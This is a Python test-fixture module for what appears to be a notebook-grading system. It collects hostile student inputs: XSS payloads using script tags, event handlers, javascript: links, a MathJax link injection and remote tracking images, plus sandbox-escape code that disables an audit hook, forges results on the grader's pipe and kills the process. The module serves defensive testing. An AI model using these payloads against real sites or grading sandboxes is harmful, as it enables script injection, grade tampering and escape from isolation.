"""Attacks a clever student plays, each written once and run by every test where it applies.

A test imports the attack it plays from here (``from attacks import HOSTILE``):
the grader's own tests, the pages that show a student's work and the hub's
browser tests then play the same attack.
"""

import json

#: Each attack of the hostile written answer; every one tries to set window.pwned.
ATTACKS = {
    "script": "<script>window.pwned = 'script'</script>",
    "img onerror": '<img src="x" onerror="window.pwned = \'img\'">',
    "svg onload": '<svg onload="window.pwned = \'svg\'"><circle r="5"/></svg>',
    "iframe": '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    "javascript link": "[click me](javascript:window.pwned='md-link')",
    "mixed-case scheme": '<a href="JaVaScRiPt:window.pwned=\'a\'">and me</a>',
    "data link": "[or me](data:text/html;base64,PHNjcmlwdD5wd25lZDwvc2NyaXB0Pg==)",
    "data image": '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="a picture">',
    "style": "<style>body { display: none }</style>",
    "refresh": '<meta http-equiv="refresh" content="0; url=https://pwned.example/">',
    "formgrader api":
        "<script>fetch(base_url + '/api/grade/1', {method: 'PUT'})</script>",
    # a tracking pixel: tells its owner when, where and by whom the work is read
    "remote image": "![a plot](https://tracker.example/pixel.png)",
    "raw remote image": '<img src="http://tracker.example/raw.png" alt="a plot">',
}
HOSTILE = "My answer.\n\n" + "\n\n".join(f"Attack {i}: {attack}"
                                          for i, attack in enumerate(ATTACKS.values()))

#: A formula in a written answer that MathJax, not the feedback's MathML, typesets
#: (latex2mathml cannot convert ``\color``): MathJax's own ``\mmlToken`` gives
#: the K a link to a script, a style, a class and an id, and a size and colour
#: that make the link an invisible area over the page.  The TeX is kept as
#: written (it is text); each page that typesets it must make it inert.
MATHS_LINK = ('$\\color{black}{\\mmlToken{mi}[href="javascript:window.pwned=\'mml\';'
              'document.title=\'pwned\';void 0",mathsize="80em",mathcolor="white",'
              'style="position:fixed;top:0;left:0",class="x",id="y"]{K}}$')

#: Outputs of a code cell of mallory's (display is IPython's; nothing else in it).
HOSTILE_CODE = """\
try:
    from IPython.display import HTML, Markdown, display
    display(HTML('<img src="x" onerror="window.pwned = 1"><b>bold output</b>'))
    display(Markdown("[out](javascript:window.pwned=2) <svg onload='pwned=3'></svg>"))
    display(HTML('<iframe src="javascript:window.pwned=4"></iframe><style>*{}</style>'))
except Exception:
    pass
"""


# -- the grading sandbox -----------------------------------------------------------
# Code a student puts in an answer cell to get at what the sandbox and the audit
# hook keep from it.  The sandbox's unit tests (grading/test_grading_unit.py,
# grading/test_sandbox_boundary.py) run each against one part, and the class
# graded through nbgrader (grading/test_assignments_robustness.py) runs it in a
# submission among honest ones, with the score it must get.

#: Defines ``_disable_guard()``: switch off the in-process audit hook by editing
#: the globals of the hook's frame, reached through the traceback of a refused
#: operation.  Only the kernel's rules (the sandbox's mounts, Landlock) stand
#: after that.
DISABLE_GUARD = """
import os

def _disable_guard():
    try:
        open("/proc/1/environ", "rb")
    except Exception as exc:
        tb = exc.__traceback__
        while tb.tb_next is not None:
            tb = tb.tb_next
        g = tb.tb_frame.f_globals
        g["_under"] = lambda path, roots: False
        for name in ("FORBIDDEN_MODULES", "ESCAPE_MODULES", "_ESCAPE_MODULES"):
            if name in g:
                g[name] = ()
        for name in ("_BLOCKED_EVENTS", "_BLOCKED", "_PATH_WRITE_EVENTS", "_WRITE_EVENTS",
                     "_PATH_EVENTS"):
            if name in g:
                g[name] = frozenset()
"""


def forged_part(cells, func, cases=16):
    """Code to append to a right ``is_kernel``: on its last case (of ``cases``: ps1's
    part 3 asks about sixteen candidates, all public), it
    answers that case on the grader's channel itself, reopens the grader's pipe
    through /proc/self/fd/0 with a folder descriptor the audit hook cannot
    follow, writes there a forged part (``cells`` defining ``func``, which would
    answer the next part's cases) and leaves."""
    forged = json.dumps({"cells": list(cells), "func": func})
    return f"""
import json, os

_FORGED = {forged!r}.encode()
_calls = []

def is_kernel(name, _honest=is_kernel):
    _calls.append(name)
    if len(_calls) < {cases}:
        return _honest(name)
    os.write(3, json.dumps({{"case": {cases - 1}, "value": _honest(name)}}).encode() + b"\\n")
    me = os.open("/proc/self", os.O_RDONLY | os.O_DIRECTORY)
    pipe = os.open("fd/0", os.O_WRONLY, dir_fd=me)     # the grader's pipe, reopened
    os.write(pipe, b"%d\\n" % len(_FORGED) + _FORGED)
    os._exit(0)
"""


#: A function that kills its own process.
KILL_SELF = """
import os, signal

def {func}(*args):
    os.kill(os.getpid(), signal.SIGKILL)
"""
